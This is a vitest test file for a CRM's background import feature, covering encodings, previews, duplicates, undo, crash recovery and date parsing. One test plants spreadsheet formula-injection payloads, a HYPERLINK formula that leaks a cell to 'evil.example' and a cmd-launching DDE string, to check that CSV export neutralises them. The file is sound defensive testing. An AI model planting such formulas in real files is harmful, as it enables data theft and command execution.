import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { sql } from 'kysely';
import { tr } from '../../platform/messages/say.js';
import { databaseRefusal } from '../io/imports/rows.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jobHandlers } from '../../job-handlers.js';
import { runDueJobs } from '../../platform/jobs.js';
import { multipartBody } from '../../testing/multipart.js';
import { createTestApp, type Client, type TestApp } from '../../testing/test-app.js';

let t: TestApp;
let admin: Client, manager: Client, sales1: Client;

beforeAll(async () => {
  t = await createTestApp();
  [admin, manager, sales1] = await Promise.all(['admin', 'manager', 'sales1'].map((u) => t.login(u)));
});
afterAll(() => t.close());

const post = (c: Client, url: string, file: { name: string; content: Buffer | string }, fields: Record<string, string> = {}) => {
  const m = multipartBody(file, fields);
  return c.request('POST', url, m.body, m.headers);
};
const start = async (c: Client, module: string, file: { name: string; content: Buffer | string }, fields: Record<string, string> = {}) => {
  const r = await post(c, '/api/v1/imports', file, { module, ...fields });
  expect(r.status, r.raw).toBe(202);
  expect(r.body.data).toEqual({ id: r.body.id }); // API.md's bare `{"id"}`, and under `data` as the web client reads it
  return r.body.id as string;
};
/** The import as API.md shows it (`{"state","total",…}`), checked to be the same under `data`. */
const status = async (c: Client, id: string) => {
  const { data, ...bare } = (await c.get(`/api/v1/imports/${id}`)).body;
  expect(data).toEqual(bare);
  return bare;
};
const runToEnd = async (c: Client, module: string, file: { name: string; content: Buffer | string }, fields: Record<string, string> = {}) => {
  const id = await start(c, module, file, fields);
  await t.runJobs();
  return status(c, id);
};
const find = async (c: Client, module: string, filter: string) => (await c.get(`/api/v1/records/${module}?${filter}&limit=500`)).body.data as Record<string, any>[];
const tag = () => Math.random().toString(36).slice(2, 8);

describe('imports in the background', () => {
  it('imports a Windows-1251 file mapped by Russian labels and a GB18030 one by Chinese labels', async () => {
    const x = tag();
    const ru = iconv.encode(`Фамилия;Имя;Эл. почта;Мобильный\nЖуков-${x};Пётр;zhukov.${x}@example.ru;+7 900 000-00-01\nЁлкина-${x};Анна;elkina.${x}@example.ru;\n`, 'win1251');
    const a = await runToEnd(manager, 'contacts', { name: 'контакты.csv', content: ru });
    expect(a).toMatchObject({ state: 'done', encoding: 'windows-1251', delimiter: ';', total: 2, done: 2, created: 2, failed: 0 });
    expect(a.mapping).toMatchObject({ Фамилия: 'last_name', Имя: 'first_name', 'Эл. почта': 'email', Мобильный: 'mobile' });
    const [zhukov] = await find(manager, 'contacts', `filter[email]=zhukov.${x}@example.ru`);
    expect(zhukov).toMatchObject({ last_name: `Жуков-${x}`, first_name: 'Пётр', mobile: '+7 900 000-00-01' });

    const zh = iconv.encode(`姓,名,电子邮件\n王${x},伟,wang.${x}@example.cn\n李${x},娜,li.${x}@example.cn\n`, 'gb18030');
    const b = await runToEnd(manager, 'contacts', { name: 'lianxiren.csv', content: zh });
    expect(b).toMatchObject({ state: 'done', encoding: 'gb18030', delimiter: ',', created: 2 });
    expect((await find(manager, 'contacts', `filter[email]=wang.${x}@example.cn`))[0]).toMatchObject({ last_name: `王${x}`, first_name: '伟' });
  });

  it('previews the first rows with every cell problem named, in the caller\'s language, writing nothing', async () => {
    const x = tag();
    const csv = `Фамилия;E-mail;Контрагент;Сотрудников\nПревью-${x};not-an-email;Нет такой компании ${x};12\n;ok.${x}@example.ru;;много\n`;
    const r = await post(manager, '/api/v1/imports/preview', { name: 'p.csv', content: csv }, { module: 'contacts' });
    expect(r.status, r.raw).toBe(200);
    const p = r.body.data;
    expect(p).toMatchObject({ format: 'csv', encoding: 'utf-8', delimiter: ';' });
    expect(p.columns).toEqual([
      { column: 'Фамилия', field: 'last_name' }, { column: 'E-mail', field: 'email' }, { column: 'Контрагент', field: 'account_id' }, { column: 'Сотрудников', field: null },
    ]);
    expect(Object.keys(p.rows[0].errors).sort()).toEqual(['account_id', 'email']);
    expect(Object.keys(p.rows[1].errors)).toEqual(['last_name']);
    expect(p.rows[0].errors.email).toMatch(/[а-я]/); // the manager reads Russian
    expect(await find(manager, 'contacts', `filter[last_name]=${encodeURIComponent(`Превью-${x}`)}`)).toEqual([]);
  });

  it('reports bad rows with their line and reason, writes nothing of them, and gives them back as a CSV to fix', async () => {
    const x = tag();
    const csv = `name;employees;website\nХорошая-${x};10;romashka.ru\nПлохая-${x};много;\n\nЕщё-${x};;\n`;
    const s = await runToEnd(manager, 'accounts', { name: 'a.csv', content: csv });
    expect(s).toMatchObject({ state: 'done', total: 3, created: 2, failed: 1 });
    expect(s.errors).toEqual([expect.objectContaining({ row: 3, fields: { employees: expect.any(String) } })]);
    expect(s.errors[0].reason).toBe(s.errors[0].message);
    expect(await find(manager, 'accounts', `filter[name]=${encodeURIComponent(`Плохая-${x}`)}`)).toEqual([]);
    const [good] = await find(manager, 'accounts', `filter[name]=${encodeURIComponent(`Хорошая-${x}`)}`);
    expect(good.website).toBe('https://romashka.ru');
    const report = await manager.get(`/api/v1/imports/${s.id}/failed.csv`);
    expect(report.headers['content-type']).toMatch(/text\/csv/);
    const lines = report.raw.replace(/^\ufeff/, '').trim().split(/\r?\n/);
    expect(lines[0]).toBe('Строка,Причина,name,employees,website'); // the manager reads Russian
    expect(lines[1]).toMatch(new RegExp(`^3,.*employees.*,Плохая-${x},много,$`));
  });

  it('matches duplicates on normalised fields: skip, merge into empty fields, overwrite', async () => {
    const x = tag();
    const existing = (await manager.post('/api/v1/records/contacts', { last_name: `Дубль-${x}`, phone: '+7 (900) 555-01-02', title: 'Old', department: null })).body.data;
    const csv = `last_name,phone,title,department\nДубль-${x},8 900 555 01 02,New,Sales\nНовый-${x},8 900 555 99 99,,\nНовый-${x},+7 900 555-99-99,Second,\n`;
    const dup = (mode: string) => ({ duplicates: JSON.stringify({ mode, match_on: ['phone'] }) });
    // Amounts and moments are not compared as their text says (1234.5 / 1234.50): refused before any row is read.
    for (const field of ['annual_revenue', 'created_at']) {
      const refused = await post(manager, '/api/v1/imports', { name: 'c.csv', content: csv }, { module: 'accounts', duplicates: JSON.stringify({ mode: 'overwrite', match_on: [field] }) });
      expect([refused.status, Object.keys(refused.body.error.fields)], field).toEqual([400, ['match_on']]);
    }
    const skip = await runToEnd(manager, 'contacts', { name: 'c.csv', content: csv }, dup('skip'));
    // The second "Новый" is a duplicate of the first one of the same file.
    expect(skip).toMatchObject({ created: 1, skipped: 2, updated: 0 });
    const merge = await runToEnd(manager, 'contacts', { name: 'c.csv', content: csv }, dup('merge'));
    expect(merge).toMatchObject({ created: 0, updated: 2 });
    let c = (await manager.get(`/api/v1/records/contacts/${existing.id}`)).body.data;
    expect([c.title, c.department]).toEqual(['Old', 'Sales']);
    const over = await runToEnd(manager, 'contacts', { name: 'c.csv', content: csv }, dup('overwrite'));
    expect(over.updated).toBeGreaterThanOrEqual(1);
    c = (await manager.get(`/api/v1/records/contacts/${existing.id}`)).body.data;
    expect(c.title).toBe('New');
    expect(await find(manager, 'contacts', `filter[last_name]=${encodeURIComponent(`Новый-${x}`)}`)).toHaveLength(1);
  });

  it('undo puts created records in the recycle bin and restores changed fields — except those edited since', async () => {
    const x = tag();
    const before = (await manager.post('/api/v1/records/contacts', { last_name: `Откат-${x}`, email: `undo.${x}@example.ru`, title: 'Был', department: 'Был' })).body.data;
    const csv = `last_name,email,title,department\nОткат-${x},undo.${x}@example.ru,Стал,Стал\nНовая-${x},new.${x}@example.ru,,\nЧужая-${x},other.${x}@example.ru,,\nСлитая-${x},merged.${x}@example.ru,,\n`;
    const s = await runToEnd(manager, 'contacts', { name: 'u.csv', content: csv }, { duplicates: JSON.stringify({ mode: 'overwrite', match_on: ['email'] }) });
    expect(s).toMatchObject({ created: 3, updated: 1, can_undo: true });
    // Another contact merged into a new one, no value changed: the new one holds the other's history now, and stays.
    const [survivor] = await find(manager, 'contacts', `filter[email]=merged.${x}@example.ru`);
    const older = (await manager.post('/api/v1/records/contacts', { last_name: `Слитая-${x}` })).body.data;
    expect((await manager.post('/api/v1/records/contacts/merge', { ids: [survivor.id, older.id] })).status).toBe(200);
    // Someone edits one of the imported values before the undo: that edit stays.
    await manager.patch(`/api/v1/records/contacts/${before.id}`, { department: 'Правка' });
    const [created] = await find(manager, 'contacts', `filter[email]=new.${x}@example.ru`);
    // A colleague has worked on another of the new records since: it is theirs now, and stays.
    const [worked] = await find(manager, 'contacts', `filter[email]=other.${x}@example.ru`);
    expect((await admin.patch(`/api/v1/records/contacts/${worked.id}`, { title: 'Позвонил' })).status).toBe(200);
    // (A change within moments of the record's creation is what reacted to it — a workflow — and does not count. This
    // one came six minutes after it, while a long import was still running: it counts.)
    const db = t.app.database.db;
    await sql`update audit_log set at = (select min(at) from audit_log where record_id = ${worked.id} and action = 'create') + interval '6 minutes'
      where record_id = ${worked.id} and action = 'update'`.execute(db);
    await sql`update imports set finished_at = finished_at + interval '1 hour' where id = ${s.id}`.execute(db);
    await admin.patch(`/api/v1/records/contacts/${created.id}`, { title: 'Workflow' });

    expect((await sales1.post(`/api/v1/imports/${s.id}/undo`)).status).toBe(404);
    const u = await manager.post(`/api/v1/imports/${s.id}/undo`);
    expect(u.status, u.raw).toBe(202);
    expect(u.body.data.state).toBe('undoing');
    expect(u.body.state).toBe('undoing'); // bare, like GET /imports/{id}
    await t.runJobs();
    const after = await status(manager, s.id);
    expect(after).toMatchObject({ state: 'undone', can_undo: false, undo_report: { deleted: 1, restored: 1, kept: 2 } });
    expect((await manager.get(`/api/v1/records/contacts/${created.id}`)).status).toBe(404);
    expect((await manager.get(`/api/v1/records/contacts/${survivor.id}`)).status).toBe(200);
    expect((await manager.get(`/api/v1/records/contacts/${worked.id}`)).body.data.title).toBe('Позвонил');
    const back = (await manager.get(`/api/v1/records/contacts/${before.id}`)).body.data;
    expect([back.title, back.department]).toEqual(['Был', 'Правка']);
    expect((await manager.post(`/api/v1/imports/${s.id}/undo`)).status).toBe(409);
  });

  it('undo restores a record two rows changed, and a created record it may not delete stays without stopping the rest', async () => {
    const x = tag();
    const before = (await manager.post('/api/v1/records/contacts', { last_name: `Дважды-${x}`, email: `twice.${x}@example.ru`, title: 'Old' })).body.data;
    const csv = `last_name,email,title,phone\nДважды-${x},twice.${x}@example.ru,T1,\nДважды-${x},twice.${x}@example.ru,T2,+7 900 000-00-00\n`
      + `Первая-${x},first.${x}@example.ru,,\nВторая-${x},second.${x}@example.ru,,\n`;
    const s = await runToEnd(manager, 'contacts', { name: 't.csv', content: csv }, { duplicates: JSON.stringify({ mode: 'overwrite', match_on: ['email'] }) });
    expect(s).toMatchObject({ created: 2, updated: 2 });
    // One of the created contacts waits for approval: it is locked, so the undo cannot delete it.
    const process = (await admin.post('/api/v1/records/approval_processes', { name: `Import ${x}`, module: 'contacts', steps: [{ approver: t.users.admin }] })).body.data;
    try {
      const [locked] = await find(manager, 'contacts', `filter[email]=first.${x}@example.ru`);
      const [other] = await find(manager, 'contacts', `filter[email]=second.${x}@example.ru`);
      expect((await manager.post(`/api/v1/records/contacts/${locked.id}/actions/submit_for_approval`, {})).status).toBe(201);
      expect((await manager.post(`/api/v1/imports/${s.id}/undo`)).status).toBe(202);
      await t.runJobs();
      expect(await status(manager, s.id)).toMatchObject({ state: 'undone', undo_report: { deleted: 1, restored: 1, kept: 1 } });
      expect((await manager.get(`/api/v1/records/contacts/${locked.id}`)).status).toBe(200);
      expect((await manager.get(`/api/v1/records/contacts/${other.id}`)).status).toBe(404);
      const back = (await manager.get(`/api/v1/records/contacts/${before.id}`)).body.data;
      expect([back.title, back.phone ?? null]).toEqual(['Old', null]);
    } finally {
      await admin.patch(`/api/v1/records/approval_processes/${process.id}`, { active: false });
    }
  });

  it('a row whose first duplicate failed is created, and a row with nothing mapped is counted as skipped', async () => {
    const x = tag();
    const csv = `last_name,email,birth_date,note\nПервый-${x},b.${x}@example.ru,31.02.2026,\nПервый-${x},b.${x}@example.ru,01.02.2026,\n,,,только здесь\n`;
    const s = await runToEnd(manager, 'contacts', { name: 'f.csv', content: csv }, { duplicates: JSON.stringify({ mode: 'overwrite', match_on: ['email'] }), mapping: JSON.stringify({ note: null }) });
    expect(s).toMatchObject({ total: 3, created: 1, failed: 1, skipped: 1, updated: 0 });
    expect((await find(manager, 'contacts', `filter[email]=b.${x}@example.ru`)).map((c) => c.birth_date)).toEqual(['2026-02-01']);
  });

  it('a killed import resumes after its last committed chunk: no row lost, none twice, numbers without gaps', async () => {
    const x = tag();
    const rows = Array.from({ length: 1203 }, (_, i) => `Массовый-${x}-${i},mass.${x}.${i}@example.ru`).join('\n');
    const id = await start(admin, 'contacts', { name: 'big.csv', content: `last_name,email\n${rows}\n` });
    const handlers = jobHandlers(t.app);
    expect(await runDueJobs(t.app.database.db, handlers, 1)).toBe(1);
    const mid = await status(admin, id);
    expect(mid).toMatchObject({ state: 'running', total: 1203, done: 500, created: 500 });
    expect(mid.rate).toBeGreaterThan(0);
    expect(mid.eta_seconds).toBeGreaterThanOrEqual(0);
    // The process dies in the middle of the next chunk: its transaction never commits.
    const crashing = { ...handlers, import: async (trx: any, payload: any) => { await handlers.import(trx, payload, { alone: true, last: true }); throw new Error('killed'); } };
    await runDueJobs(t.app.database.db, crashing, 1);
    expect(await status(admin, id)).toMatchObject({ done: 500, created: 500 });
    await sql`update jobs set run_at = now() where key = ${`import:${id}`}`.execute(t.app.database.db);
    await t.runJobs();
    expect(await status(admin, id)).toMatchObject({ state: 'done', done: 1203, created: 1203, failed: 0 });
    const r = await sql<{ n: number; numbers: number }>`select count(*)::int as n, count(distinct number)::int as numbers,
      max(substr(number, 4)::int) - min(substr(number, 4)::int) + 1 as span from contacts where last_name like ${`Массовый-${x}-%`}`.execute(t.app.database.db);
    expect(r.rows[0]).toMatchObject({ n: 1203, numbers: 1203, span: 1203 });
    const audit = await sql<{ n: number }>`select count(*)::int as n from audit_log a join contacts c on c.id = a.record_id
      where c.last_name like ${`Массовый-${x}-%`} and a.action = 'create'`.execute(t.app.database.db);
    expect(audit.rows[0].n).toBe(1203);
  });

  it('an import that stopped part-way can be undone: what its finished chunks wrote goes, the rest is never read', async () => {
    const x = tag();
    const rows = Array.from({ length: 700 }, (_, i) => `Стоп-${x}-${i},stop.${x}.${i}@example.ru`).join('\n');
    const id = await start(admin, 'contacts', { name: 'stop.csv', content: `last_name,email\n${rows}\n` });
    expect(await runDueJobs(t.app.database.db, jobHandlers(t.app), 1)).toBe(1);
    // Its job gives up (its attempts spent, as after a failure every time): the import shows failed, its writes undoable.
    await sql`update jobs set failed = true, done_at = now(), last_error = 'gave up' where key = ${`import:${id}`}`.execute(t.app.database.db);
    expect(await status(admin, id)).toMatchObject({ state: 'failed', created: 500, can_undo: true, last_error: 'gave up' });
    expect((await admin.post(`/api/v1/imports/${id}/undo`)).status).toBe(202);
    await t.runJobs();
    expect(await status(admin, id)).toMatchObject({ state: 'undone', undo_report: { deleted: 500, restored: 0, kept: 0 } });
    expect(await find(admin, 'contacts', `q=${encodeURIComponent(`Стоп-${x}`)}`)).toHaveLength(0);
    expect((await sql`select 1 from import_chunks where import_id = ${id}`.execute(t.app.database.db)).rows).toHaveLength(0);
  });

  it('imports vCards into contacts, references by name and owners by full name', async () => {
    const x = tag();
    await manager.post('/api/v1/records/accounts', { name: `Визитка ${x}` });
    const vcf = ['BEGIN:VCARD', 'VERSION:3.0', `N:Карточкин-${x};Иван;;;`, `ORG:Визитка ${x}`, `EMAIL:card.${x}@example.ru`, 'TEL;TYPE=CELL:+7 901 000 00 00', 'END:VCARD'].join('\r\n');
    const s = await runToEnd(manager, 'contacts', { name: 'contacts.vcf', content: vcf });
    expect(s).toMatchObject({ format: 'vcard', created: 1, failed: 0 });
    const got = (await manager.get(`/api/v1/records/contacts?filter[email]=card.${x}@example.ru`)).body;
    expect(got.data[0]).toMatchObject({ last_name: `Карточкин-${x}`, first_name: 'Иван', mobile: '+7 901 000 00 00' });
    expect(got.refs[got.data[0].account_id].label).toBe(`Визитка ${x}`);
  });

  it('a form field past its bound is too large (413), not a broken mapping', async () => {
    const huge = JSON.stringify(Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`column number ${i}`, null])));
    const r = await post(manager, '/api/v1/imports', { name: 'a.csv', content: 'last_name\nX\n' }, { module: 'contacts', mapping: huge });
    expect(r.status, r.raw).toBe(413);
  });

  it('keeps mappings per user and module; only the importer (or an administrator) sees an import', async () => {
    const saved = await manager.post('/api/v1/imports/mappings', { module: 'contacts', name: '1С выгрузка', mapping: { ФИО: 'last_name', Почта: 'email' } });
    expect(saved.status, saved.raw).toBe(201);
    await manager.post('/api/v1/imports/mappings', { module: 'contacts', name: '1С выгрузка', mapping: { ФИО: 'last_name', 'E-mail': 'email' } });
    const list = (await manager.get('/api/v1/imports/mappings?module=contacts')).body.data;
    expect(list).toEqual([expect.objectContaining({ name: '1С выгрузка', mapping: { ФИО: 'last_name', 'E-mail': 'email' } })]);
    expect((await manager.post('/api/v1/imports/mappings', { module: 'contacts', name: 'x', mapping: { a: 'no_such_field' } })).status).toBe(400);
    expect((await admin.get('/api/v1/imports/mappings?module=contacts')).body.data).toEqual([]);
    expect((await manager.del(`/api/v1/imports/mappings/${list[0].id}`)).status).toBe(204);

    const id = await start(manager, 'accounts', { name: 'a.csv', content: `name\nСвой импорт ${tag()}\n` });
    expect((await sales1.get(`/api/v1/imports/${id}`)).status).toBe(404);
    expect((await admin.get(`/api/v1/imports/${id}`)).status).toBe(200);
    expect((await manager.get('/api/v1/imports')).body.data.some((i: any) => i.id === id)).toBe(true);
    expect((await sales1.get('/api/v1/imports')).body.data.some((i: any) => i.id === id)).toBe(false);
    await t.runJobs();
  });

  it('takes the usual spellings of an encoding, finds duplicates on the usual field when none is named', async () => {
    const x = tag();
    const gbk = iconv.encode(`name,phone\n北京公司-${x},+86 10 1234 5678\n`, 'gbk');
    expect(await runToEnd(manager, 'accounts', { name: 'g.csv', content: gbk }, { encoding: 'GBK' })).toMatchObject({ created: 1, encoding: 'gb18030' });
    const cp = iconv.encode(`name\nКодировка-${x}\n`, 'win1251');
    expect(await runToEnd(manager, 'accounts', { name: 'c.csv', content: cp }, { encoding: 'CP1251' })).toMatchObject({ created: 1, encoding: 'windows-1251' });
    // "UTF-16" follows the byte-order mark, big-endian here.
    const be = Buffer.from(iconv.encode(`\ufeffname\nЮникод-${x}\n`, 'utf16-be'));
    expect(await runToEnd(manager, 'accounts', { name: 'u.csv', content: be }, { encoding: 'utf-16' })).toMatchObject({ created: 1 });
    expect(await find(manager, 'accounts', `filter[name]=${encodeURIComponent(`Юникод-${x}`)}`)).toHaveLength(1);
    // Skip without fields named: an account by its name, a contact by e-mail.
    const again = await runToEnd(manager, 'accounts', { name: 'c.csv', content: cp }, { encoding: 'cp1251', duplicates: JSON.stringify({ mode: 'skip' }) });
    expect(again).toMatchObject({ created: 0, skipped: 1, duplicates: { mode: 'skip', match_on: ['name'] } });
    const contact = `last_name,email\nПочта-${x},mail.${x}@example.ru\nДругое имя-${x},MAIL.${x}@example.ru\n`;
    expect(await runToEnd(manager, 'contacts', { name: 'p.csv', content: contact }, { duplicates: JSON.stringify({ mode: 'skip' }) })).toMatchObject({ created: 1, skipped: 1, duplicates: { match_on: ['email'] } });
  });

  it("dates and times without a zone are the importer's clock, and an export writes them so: a round trip keeps the moment", async () => {
    const x = tag();
    try {
      await manager.patch(`/api/v1/users/${t.users.manager}`, { time_zone: 'Europe/Moscow' });
      const ev = await manager.post('/api/v1/records/events', { subject: `Время-${x}`, start_at: '2026-05-01T07:30:00Z' });
      expect(ev.status, ev.raw).toBe(201);
      const csv = (await manager.get(`/api/v1/records/events/export?format=csv&fields=subject,start_at&filter[subject]=${encodeURIComponent(`Время-${x}`)}`)).raw;
      // The reader's clock with its offset (which tells apart the two moments of an hour repeated in autumn).
      expect(csv.replace(/^\ufeff/, '').trim().split(/\r?\n/)[1].startsWith(`Время-${x},2026-05-01 10:30:00+03:00,`)).toBe(true);
      const rows = ['2026-05-01 10:30:00+03:00', '2026-05-01 10:30:00', '01.05.2026 10:30', '2026年5月1日 10:30', '2026-05-01T07:30:00Z'].map((v, i) => `Снова-${x}-${i},${v}`);
      const s = await runToEnd(manager, 'events', { name: 'e.csv', content: `subject,start_at\n${rows.join('\n')}\n` });
      expect(s, JSON.stringify(s.errors)).toMatchObject({ created: 5, failed: 0 });
      // An Excel date cell is a wall-clock time too, also once the import has stored it to run in the background.
      const book = new ExcelJS.Workbook();
      book.addWorksheet('e').addRows([['subject', 'start_at'], [`Снова-${x}-xlsx`, new Date(Date.UTC(2026, 4, 1, 10, 30))]]);
      expect(await runToEnd(manager, 'events', { name: 'e.xlsx', content: Buffer.from(await book.xlsx.writeBuffer()) })).toMatchObject({ created: 1, failed: 0 });
      const back = await find(manager, 'events', `filter[subject][starts_with]=${encodeURIComponent(`Снова-${x}`)}&fields=subject,start_at`);
      expect(back.map((e) => e.start_at)).toEqual(Array(6).fill('2026-05-01T07:30:00.000Z'));
      const bad = await runToEnd(manager, 'events', { name: 'b.csv', content: `subject,start_at\nПлохо-${x},31.04.2026 10:30\n` });
      expect(bad).toMatchObject({ created: 0, failed: 1, errors: [expect.objectContaining({ fields: { start_at: expect.any(String) } })] });
    } finally {
      await manager.patch(`/api/v1/users/${t.users.manager}`, { time_zone: null });
    }
  });

  it('a row the database refuses is said as the API says it (a taken value, a bad value), in the importer\'s language', () => {
    expect(databaseRefusal(Object.assign(new Error('duplicate key value violates unique constraint "x"'), { code: '23505' })).render('ru').message).toBe(tr('A record with this value already exists', 'ru'));
    expect(databaseRefusal(Object.assign(new Error('numeric field overflow'), { code: '22003' })).render('zh').message).toBe(tr('A value is out of range or malformed', 'zh'));
    expect(databaseRefusal(new Error('something else')).render('en').message).toMatch(/something else/);
  });

  it('an exported CSV holds no live formula, and imports back as it was', async () => {
    const x = tag();
    const evil = '=HYPERLINK("http://evil.example/?"&A2,"Click")';
    const made = await manager.post('/api/v1/records/contacts', { first_name: evil, last_name: `Формула-${x}`, phone: '+7 (912) 345-67-89', description: '-2+3+cmd|\' /C calc\'!A0' });
    expect(made.status, made.raw).toBe(201);
    const csv = (await manager.get(`/api/v1/records/contacts/export?format=csv&fields=first_name,last_name,phone,description&filter[last_name]=${encodeURIComponent(`Формула-${x}`)}`)).raw;
    const line = csv.replace(/^\ufeff/, '').trim().split(/\r?\n/)[1];
    // A spreadsheet shows these as text; the phone number stays a phone number.
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"`);
    expect(line).toContain("'-2+3+cmd|' /C calc'!A0");
    expect(line).toContain(',+7 (912) 345-67-89,');
    const again = csv.replace(`Формула-${x}`, `Снова-${x}`);
    expect(await runToEnd(manager, 'contacts', { name: 'back.csv', content: again })).toMatchObject({ created: 1, failed: 0 });
    const [back] = await find(manager, 'contacts', `filter[last_name]=${encodeURIComponent(`Снова-${x}`)}&fields=first_name,phone,description`);
    expect([back.first_name, back.phone, back.description]).toEqual([evil, '+7 (912) 345-67-89', "-2+3+cmd|' /C calc'!A0"]);
  });

  it('reads dates month first when the file writes them so (12/31/2026, 5/1/2026 2:30 PM); day first otherwise', async () => {
    const x = tag();
    try {
      await manager.patch(`/api/v1/users/${t.users.manager}`, { time_zone: 'Europe/Moscow' });
      const events = `subject,start_at\nUS-${x}-1,05/01/2026 10:30 AM\nUS-${x}-2,5/1/2026 2:30 PM\nUS-${x}-3,05/01/2026 12:15 AM\n`;
      const preview = await post(manager, '/api/v1/imports/preview', { name: 'us.csv', content: events }, { module: 'events', date_order: 'month_first' });
      expect(preview.body.data).toMatchObject({ date_order: 'month_first', rows: [{ values: { start_at: '2026-05-01T07:30:00.000Z' }, errors: {} }, {}, {}] });
      // A moment written with its offset is previewed as it would be stored, an instant.
      const offset = await post(manager, '/api/v1/imports/preview', { name: 'o.csv', content: `subject,start_at\nO-${x},2026-05-01 10:30:00+03:00\n` }, { module: 'events' });
      expect(offset.body.data.rows[0]).toMatchObject({ values: { start_at: '2026-05-01T07:30:00.000Z' }, errors: {} });
      expect(await runToEnd(manager, 'events', { name: 'us.csv', content: events }, { date_order: 'month_first' })).toMatchObject({ created: 3, failed: 0, date_order: 'month_first' });
      const back = await find(manager, 'events', `filter[subject][starts_with]=${encodeURIComponent(`US-${x}`)}&fields=subject,start_at&sort=subject`);
      expect(back.map((e) => e.start_at)).toEqual(['2026-05-01T07:30:00.000Z', '2026-05-01T11:30:00.000Z', '2026-04-30T21:15:00.000Z']);
      const deals = `name,close_date\nСделка-${x}-us,12/31/2026\n`;
      expect(await runToEnd(manager, 'deals', { name: 'd.csv', content: deals }, { date_order: 'month_first' })).toMatchObject({ created: 1, failed: 0 });
      // Without the choice the same file is read day first: month 31 is no date, and the row says so.
      expect(await runToEnd(manager, 'deals', { name: 'd.csv', content: deals })).toMatchObject({ created: 0, failed: 1, date_order: 'day_first' });
      expect((await find(manager, 'deals', `filter[name]=${encodeURIComponent(`Сделка-${x}-us`)}&fields=close_date`)).map((d) => d.close_date)).toEqual(['2026-12-31']);
      const wrong = await post(manager, '/api/v1/imports', { name: 'd.csv', content: deals }, { module: 'deals', date_order: 'year_first' });
      expect([wrong.status, Object.keys(wrong.body.error.fields)]).toEqual([400, ['date_order']]);
    } finally {
      await manager.patch(`/api/v1/users/${t.users.manager}`, { time_zone: null });
    }
  });

  it('refuses what it cannot do, in the caller\'s language', async () => {
    expect((await post(sales1, '/api/v1/imports', { name: 'a.csv', content: 'name\nX\n' }, { module: 'accounts' })).status).toBe(403);
    const bad = await post(manager, '/api/v1/imports', { name: 'a.csv', content: 'name\nX\n' }, { module: 'accounts', encoding: 'ebcdic' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields.encoding).toBeTruthy();
    expect((await post(manager, '/api/v1/imports', { name: 'a.csv', content: 'name\nX\n' }, { module: 'nope' })).status).toBe(400);
    // A module in the path that does not exist is not found; a file over the limit is too large.
    expect((await post(manager, '/api/v1/import/nope', { name: 'a.csv', content: 'name\nX\n' })).body.error.code).toBe('NOT_FOUND');
    const huge = await post(manager, '/api/v1/imports', { name: 'big.csv', content: Buffer.alloc(26 * 1024 * 1024, 0x41) }, { module: 'accounts' });
    expect([huge.status, huge.body.error.code]).toEqual([413, 'PAYLOAD_TOO_LARGE']);
    expect((await post(manager, '/api/v1/imports', { name: 'a.csv', content: '' }, { module: 'accounts' })).status).toBe(400);
    expect((await manager.get('/api/v1/imports/not-an-id')).status).toBe(404);
    const m = multipartBody({ name: 'a.csv', content: 'foo\n1\n' }, { module: 'accounts' });
    const ru = await manager.request('POST', '/api/v1/imports', m.body, { ...m.headers, 'accept-language': 'ru' });
    expect(ru.status).toBe(400);
    expect(ru.body.error.message).toMatch(/[А-Яа-я]/);
    // Form fields of the wrong shape, and columns named like an object's own properties, are no server error.
    for (const fields of [{ mapping: 'null' }, { mapping: '5' }, { mapping: '{"name":5}' }, { duplicates: '{"mode":"skip","match_on":"name"}' }] as Record<string, string>[]) {
      const r = await post(manager, '/api/v1/imports/preview', { name: 'a.csv', content: 'name\nX\n' }, { module: 'accounts', ...fields });
      expect([r.status, r.body.error?.code], JSON.stringify(fields)).toEqual([400, 'VALIDATION_FAILED']);
    }
    const odd = await post(manager, '/api/v1/imports/preview', { name: 'a.csv', content: 'name,constructor,__proto__,toString\nX,1,2,3\n' }, { module: 'accounts' });
    expect(odd.status, odd.raw).toBe(200);
    // A header wider than a sheet may be is refused at once.
    const wide = multipartBody({ name: 'w.csv', content: `${Array.from({ length: 2000 }, (_, i) => `c${i}`).join(',')}\nX\n` }, { module: 'accounts' });
    const w = await manager.request('POST', '/api/v1/imports/preview', wide.body, { ...wide.headers, 'accept-language': 'ru' });
    expect([w.status, w.body.error.message]).toEqual([400, 'В файле есть значения правее столбца 1024']);
    const left = await sql<{ n: number }>`select count(*)::int as n from imports where state = 'reading'`.execute(t.app.database.db);
    expect(left.rows[0].n).toBe(0);
  });
});
